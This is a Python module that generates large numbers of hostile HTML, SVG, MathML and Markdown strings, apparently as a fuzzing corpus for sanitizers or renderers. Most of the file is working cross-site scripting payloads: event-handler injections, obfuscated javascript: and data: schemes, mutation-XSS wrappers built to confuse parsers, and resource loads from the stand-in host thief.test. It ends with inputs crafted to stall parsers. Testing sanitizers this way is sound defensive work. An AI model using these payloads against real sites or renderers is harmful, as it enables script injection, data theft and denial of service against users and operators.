"""
A grammar of hostile HTML, SVG, MathML and Markdown, in the spellings that get past those who look.

What a text wants is always one of two things: call `hit(n)` in the page, or ask a host for a file.
"""

import random
import re
from collections.abc import Callable

HOST = "thief.test"
EVENTS = """
    onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onscroll
    onpointerenter ontransitionend onwheel onbeforetoggle onrepeat onend
    oncontentvisibilityautostatechange
""".split()  # noqa: SIM905
# {c} a call, {u} an address elsewhere, {j} an address that is a program, {e} a handler's name.
TAGS = [
    "<script>{c}</script>",
    "<script src={u}></script>",
    "<script type=module>import '{u}'</script>",
    "<img src=x {e}={c}>",
    "<img/src=x/{e}={c}>",
    '<img src="x" {e}="{c}" x=">',
    "<img src={u}>",
    "<img srcset='{u} 1x, {u} 2x'>",
    "<img src='data:image/svg+xml,<svg onload={c}>'>",
    "<img loading=eager lowsrc={u} dynsrc={u} src={u}>",
    "<picture><source srcset={u}><img src={u}></picture>",
    "<image src={u} {e}={c}>",
    "<a href='{j}'>x</a>",
    "<a href={j} autofocus tabindex=1 onfocus={c}>x</a>",
    "<a ping={u} href='{u}' target=_top>x</a>",
    "<svg {e}={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><script href={u} /></svg>",
    "<svg><a xlink:href='{j}'><text y=20>x</text></a></svg>",
    "<svg><image href='{u}' xlink:href='{u}'/></svg>",
    "<svg><use href='{u}#x'/><feImage href='{u}'/></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='{j}'/><a id=x>x</a></svg>",
    "<svg><a><animate attributeName=href values='{j}'/><text>x</text></a></svg>",
    "<svg><foreignObject><body {e}={c}><img src=x onerror={c}></foreignObject></svg>",
    "<svg><style>@import '{u}';</style></svg>",
    "<svg fill='url({u})' filter='url({u}#f)'><rect fill='url({u})'/></svg>",
    "<math><maction actiontype=statusline xlink:href='{j}'>x</maction></math>",
    "<math href='{j}'><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x {e}={c}></annotation-xml></math>",
    "<style>@import '{u}'; * {{ background: url({u}) }}</style>",
    "<style>@font-face {{ font-family: f; src: url({u}) }} * {{ font-family: f }}</style>",
    "<p style='background:url({u})'>x</p>",
    "<p style=\"background:u\\72l('{u}')\">x</p>",
    "<div style='list-style:url({u});border-image:url({u});cursor:url({u}),auto'>x</div>",
    "<link rel=stylesheet href={u}>",
    "<link rel=preload as=image href={u}><link rel=prefetch href={u}>",
    "<link rel=dns-prefetch href={u}><link rel=preconnect href={u}>",
    "<link rel=icon href={u}><link rel=modulepreload href={u}><link rel=manifest href={u}>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<meta http-equiv=refresh content='0;url={j}'>",
    "<base href='{u}'>",
    "<base target=_top href={u}/>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src='{j}'></iframe>",
    "<frameset onload={c}><frame src={u}></frameset>",
    "<object data={u}></object>",
    "<object data='{j}' type=text/html><param name=src value={u}></object>",
    "<embed src={u}>",
    "<embed src='{j}'>",
    "<video src={u} poster={u} autoplay {e}={c}></video>",
    "<video><source src={u} onerror={c}></video>",
    "<audio src={u} autoplay onerror={c}></audio>",
    "<track src={u} default>",
    "<form action='{j}'><input type=submit autofocus onfocus={c}></form>",
    "<form action={u} id=f></form><button form=f formaction='{j}'>b</button>",
    "<input type=image src={u} formaction='{j}' {e}={c}>",
    "<isindex action='{j}' type=image src={u}>",
    "<button popovertarget=x>b</button><p popover id=x onbeforetoggle={c}>x</p>",
    "<details open ontoggle={c}><summary>s</summary></details>",
    "<select autofocus onfocus={c}><option>o</select>",
    "<textarea autofocus onfocus={c}></textarea>",
    "<marquee onstart={c} loop=1>x</marquee>",
    "<body {e}={c} background={u}>",
    "<table background={u}><td background={u}>x</table>",
    "<x {e}={c} contenteditable autofocus tabindex=1 onfocus={c}>x",
    "<template shadowrootmode=open><img src={u} onerror={c}></template>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'></noscript>",
    "<portal src={u}></portal><fencedframe src={u}></fencedframe>",
    "<applet code=x archive={u}></applet><bgsound src={u}><layer src={u}></layer>",
    "<slot onslotchange={c}></slot><dialog open onclose={c}>d</dialog>",
    "<style onload={c}></style><link rel=stylesheet href='data:text/css,' onload={c}>",
    "<script type='text/x-mathjax-config'>{c}</script>",
    '<script type=\'application/vnd.jupyter.widget-view+json\'>{{"model_id":"x"}}</script>',
    '<pre class=mermaid>graph TD; A["<img src={u} onerror={c}>"]</pre>',
    "<div class=jp-Mermaid><pre class=mermaid>graph TD</pre></div>",
]
# Where a tag stands, so that one reader sees text and another one a tag.
AROUND = [
    "{0}",
    "<svg>{0}</svg>",
    "<math>{0}</math>",
    "<math><mtext><table><mglyph><style><!--</style>{0}-->",
    "<form><math><mtext></form><form><mglyph><style></math>{0}",
    '<svg></p><style><a id="</style>{0}">',
    "<svg><desc><p><style><!--</style>{0}--></desc></svg>",
    '<math><mi><svg><mtext><textarea><path id="</textarea>{0}">',
    "<noscript><style></noscript>{0}</style></noscript>",
    '<noembed><p title="</noembed>{0}"></noembed>',
    "<xmp><p title='</xmp>{0}'></xmp>",
    "<title><p title='</title>{0}'></title>",
    "<textarea></textarea>{0}<textarea>",
    "<select><option>{0}</select>",
    "<table><tr>{0}<td></table>",
    "<table><caption>{0}</caption></table>",
    "<!-->{0}-->",
    "<!--{0}-->",
    "<!--x--!>{0}<!-- -->",
    "<!-- --{0}> -->",
    "<![CDATA[{0}]]>",
    "<svg><![CDATA[{0}]]></svg>",
    "<?x {0}?>",
    "<!DOCTYPE x [{0}]>",
    "<p title='{0}'>x</p>",
    '<p title="`{0}`">x</p>',
    "<a title='\">{0}'>x</a>",
    "</div></section></main></body>{0}",
    "</pre></code>{0}",
    "</script>{0}<script>",
    "<plaintext>{0}",
    "<b><i><u>{0}</b></i></u>",
    "<a><b></a>{0}</b>",
    '<img alt="{0}" src=x>',
    "\x00{0}",
    "<\x00b>{0}",
]
# The same as text that Markdown takes for itself first.
IN_MARKDOWN = [
    "{0}",
    "text {0} text",
    "`a` {0} `b`",
    "`{0}`",
    "``x` {0} ``",
    "```\n{0}\n```",
    "```html\n{0}",
    "~~~\n{0}\n~~~ x\n{0}",
    "    {0}",
    "> {0}",
    "> ```\n{0}",
    "- {0}\n  - {0}",
    "1. <div>\n\n{0}\n</div>",
    "| a |\n|---|\n| {0} |",
    "# {0}",
    "{0}\n===",
    "*{0}*",
    "**_{0}_**",
    "[{0}](https://a.test/)",
    "![{0}](x.png)",
    '[a]: https://a.test/ "{0}"\n\n[a]',
    "$ {0} $",
    "$$\n{0}\n$$",
    "\\\\( {0} \\\\)",
    "\\begin{{align}}{0}\\end{{align}}",
    "$a`$ {0} `$b$",
    "@@0@@ $x$ {0} @@1@@",
    "<div>\n{0}\n</div>",
    "<div>\n\n{0}\n\n</div>",
    "<details><summary>s</summary>\n\n{0}\n</details>",
    "term\n: {0}",
    "- [ ] {0}\n- [x] {0}",
    "<!-- a\n\n{0} -->",
    "\\{0}",
    "&lt;b&gt; {0} &amp;lt;",
]
MARKDOWN = [
    "[x]({j})",
    "[x](<{j}>)",
    '[x]( {j} "t")',
    "[x](\n{j}\n)",
    "[x]\n({j})",
    "[x][r]\n\n[r]: {j}",
    "[r]\n\n[r]: <{j}> 'title'",
    "[r]: \n{j}\n\n[r][] [R]",
    "> [r]: {j}\n\n[r]",
    "<{j}>",
    "![x]({u})",
    "![x](<{u}>)",
    "![x][p]\n\n[p]: {u}",
    '![p]\n\n[p]: {u} "t"',
    "[![x]({u})]({j})",
    "![a [b]({u}) c]({u})",
    "!\\[x]({u}) \\![x]({j}) ![x\\]({u})",
    '![x](x.png" {e}="{c})',
    "![x](x.png '\" {e}={c} ')",
    '![x" {e}={c} y="](plot.png)',
    '[x](https://a.test/" {e}="{c})',
    '[x](https://a.test/ "t\\" {e}={c} \\"")',
    "[x](files/{j}) ![x](files/{u}) ![x](/files//{h}/x.png)",
    '![x](attachment:x" {e}="{c}) ![x](attachment:none.png) ![x](attachment:a.png)',
    "\\![x](data:image/png;base64,AAAA) [y](data:text/html,<script>{c}</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KDEpPg==)",
    '```mermaid\ngraph TD; A["<img src={u} onerror={c}>"]\n```',
    "``` \u2003mermaid x\n</pre><img src=x onerror={c}>\n```",
    "~~~mermaid\n</pre></div><script>{c}</script>\n~~~",
    '```x" onload="{c}\n```',
    '$\\href{{{j}}}{{x}} \\style{{background:url({u})}}{{y}} \\class{{a" onload={c}}}{{b}}$',
    "$$\\require{{html}}\\def\\h{{\\href}}\\h{{{j}}}{{x}} \\includegraphics{{{u}}}$$",
    "http://a.test/\"onmouseover=\"{c} www.a.test/'{e}='{c}",
    '<http://a.test/"{e}={c}> <a@b.test"{e}={c}>',
    '[x](#" {e}="{c}) [x](#{j})',
    "[x](evil.html) [y](../evil.svg) [z](/logout) [w](?x={j})",
    "[^1]\n\n[^1]: {j}",
    "# <a name=x id=y {e}={c}>h</a> {{#z {e}={c}}}",
    "a | b\n-|-\n<img src=x {e}={c}> | ![x]({u})",
    "[x](&#x2f;&#x2f;{h}/x) ![x](&#x2f;&#x2f;{h}/x.png) ![y](\\/\\/{h}/y.png)",
    '[r]: https://a.test/ "[x]({j})" ![y]({u})',
    "[a](https://a.test/[x]({j})) a](https://a.test/[x]({j})) <https://a.test/[x]({j})>",
    '\\<b title="[x]({j}) ![y]({u})">x</b> `<b title="`[x]({j})">',
    "[x](javascript&colon;{c}) [y](java\\script:{c}) [z](%6aavascript:{c})",
]
SCHEMES = [
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java&#115;cript:{c}",
    "java&#x73cript:{c}",
    "&#0000106avascript:{c}",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{c}",
    "java&Tab;script:{c}",
    "java&NewLine;script&colon;{c}",
    "java\tscript:{c}",
    "java\nscript:{c}",
    "java\x0bscript:{c}",
    "\x01javascript:{c}",
    " \u00a0javascript:{c}",
    "&#1;javascript:{c}",
    "java\x00script:{c}",
    "javascript://%0a{c}",
    "vbscript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "view-source:javascript:{c}",
    "blob:{u}",
    "feed:javascript:{c}",
    "jav\u0430script:{c}",
    "javascript\\:{c}",
]
PLACES = ["//{h}/{n}", "http://{h}/{n}.png", "HTTPS://{h}/{n}", "\\\\{h}\\{n}", "/\\{h}/{n}"]
PLACES += [
    "ht\ntp://{h}/{n}",
    "http:{h}/{n}",
    "&#104;ttp://{h}/{n}",
    "https:\\\\{h}/{n}",
    "///{h}/{n}",
]


class Writer:
    """Writes hostile texts, the same ones for the same seed; `n` numbers the text."""

    def __init__(self, seed: int) -> None:
        self.dice = random.Random(seed)
        self.n = 0

    def html(self) -> str:
        """HTML, for an output and among Markdown."""
        pick = self.dice.choice
        text = "".join(self.filled(pick(TAGS)) for _ in range(pick((1, 1, 2))))
        for _ in range(pick((0, 1, 1, 2))):
            text = pick(AROUND).format(text)
        return self.spelled(text)

    def markdown(self) -> str:
        """Markdown, with HTML in it as often as not."""
        pick, parts = self.dice.choice, []
        for _ in range(pick((1, 2, 3))):
            text = self.html() if pick((0, 1)) else self.filled(pick(MARKDOWN))
            for _ in range(pick((0, 1, 1, 2))):
                text = pick(IN_MARKDOWN).format(text)
            parts.append(text)
        return pick(("\n\n", "\n", " ", "")).join(parts)

    def filled(self, pattern: str) -> str:
        """A pattern with calls and addresses of the text's own."""
        self.n += 1
        pick, call = self.dice.choice, f"hit({self.n})"
        place = pick(PLACES).format(h=HOST, n=self.n)
        program = pick(SCHEMES).format(c=call, u=place)
        if "'{j}'" not in pattern:
            program = program.replace(" ", "") if pick((0, 1)) else program
        return pattern.format(c=call, u=place, j=program, e=pick(EVENTS), h=HOST)

    def spelled(self, text: str) -> str:
        """The same text as it may be spelt."""
        change: Callable[[str], str] = self.dice.choice(
            (
                str,
                str,
                str,
                lambda t: re.sub(r"hit\(|[a-z]", self._cased, t),
                lambda t: t.replace(" ", self.dice.choice(("/", "\t", "\n", "\x0c", "\x0b", "\r"))),
                lambda t: t.replace("<", self.dice.choice(("<\x00", "<", "&lt;", "<<", "<\u2060"))),
                lambda t: t.replace(">", self.dice.choice((" >", "\n>", "/>", ">>"))),
                lambda t: t.replace(">", "", 1),
                lambda t: t.replace("'", '"'),
                lambda t: t.replace("<", "%3C").replace(">", "&gt;"),
                lambda t: t[: self.dice.randrange(1, len(t) + 1)],
            )
        )
        return change(text)

    def _cased(self, found: re.Match[str]) -> str:
        return self.dice.choice((found[0], found[0].upper())) if len(found[0]) == 1 else found[0]


# Texts of some kilobytes that cost a careless reader minutes.
ENDLESS = {
    "angles": "<" * 24_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">",
    "quoted attributes": "<p x='<' \"" + " ".join(f"a{n}" for n in range(20_000)) + ">",
    "nested": "<div>" * 20_000,
    "items in items": "</td><dd>x<li>x" * 8_000,
    "misnested": "<b></u>" * 12_000,
    "lists": "<ul><li>" * 10_000,
    "ampersands": "&" * 200_000,
    "entities": "&amp;" * 100_000,
    "long entity": "&" + "a" * 200_000,
    "brackets": "[" * 50_000,
    "pictures": "![" * 24_000,
    "links": "[a](" * 12_000,
    "references": "[x][" * 12_000,
    "stars": "*a" * 24_000,
    "underscores": "_a " * 16_000,
    "ticks": "".join("`" * n + "a" for n in range(1, 300)),
    "comments": "<!--" * 12_000,
    "tags begun": "<a b='" * 8_000,
    "formulas": "\\\\[" * 16_000,
    "environments": "\\begin{a}" * 5_000,
    "quotes": "> " * 24_000,
    "quotes in quotes": "\n".join(">" * n + " a" for n in range(1, 300)),
    "tables": "a|b\n-|-\n" * 6_000,
    "rules": "--- " * 12_000,
    "fences": "```mer" * 8_000,
    "cdata": "<![CDATA[" * 5_000,
    "bold without end": "<b>x" * 12_000,
    "escapes": "\x1b[1" * 100_000,
}
